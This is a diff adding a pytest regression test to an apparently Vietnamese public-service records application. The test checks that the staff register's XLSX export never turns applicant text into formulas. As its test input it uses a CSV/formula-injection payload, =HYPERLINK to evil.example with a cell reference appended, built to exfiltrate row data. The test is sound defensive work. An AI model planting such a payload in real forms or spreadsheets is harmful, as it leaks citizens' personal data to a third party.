@@ -1,6 +1,7 @@
 """The officer's pages: queues with counts, the dossier page's actions, the register, the slips."""
 
 import io
+import zipfile
 
 import pytest
 from openpyxl import load_workbook
@@ -93,6 +94,23 @@ def test_register_page_and_xlsx(client, staff, sent):
     rows = list(sheet.iter_rows(values_only=True))
     assert rows[2][:3] == ("STT", "Mã hồ sơ", "Tên thủ tục hành chính")
     assert rows[3][1] == sent.code
+
+
+def test_the_register_never_turns_an_applicants_text_into_a_formula(client, staff, procedure, agency):
+    """A citizen registered as =HYPERLINK(…) with the address =1+2: before, the desk's download held them
+    as formulas (<f> cells) that send the row to a stranger's site when the officer opens the file."""
+    name, address = '=HYPERLINK("http://evil.example/?leak="&C5,"Xem hồ sơ")', "=1+2"
+    services.register_at_counter(
+        officer=staff["desk"], procedure=procedure, agency=agency, channel="in_person",
+        applicant={"name": name, "id_number": "030080012345", "address": address, "kind": "citizen"},
+    )  # fmt: skip
+    client.force_login(staff["desk"])
+    response = client.get("/mot-cua/so-theo-doi/?tu-ngay=2020-01-01&den-ngay=2099-01-01&dinh-dang=xlsx")
+    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
+        xml = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
+    assert "<f>" not in xml
+    row = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))[3]
+    assert name in row and address in row
 
 
 def test_the_control_sheet_pdf(client, staff, sent):
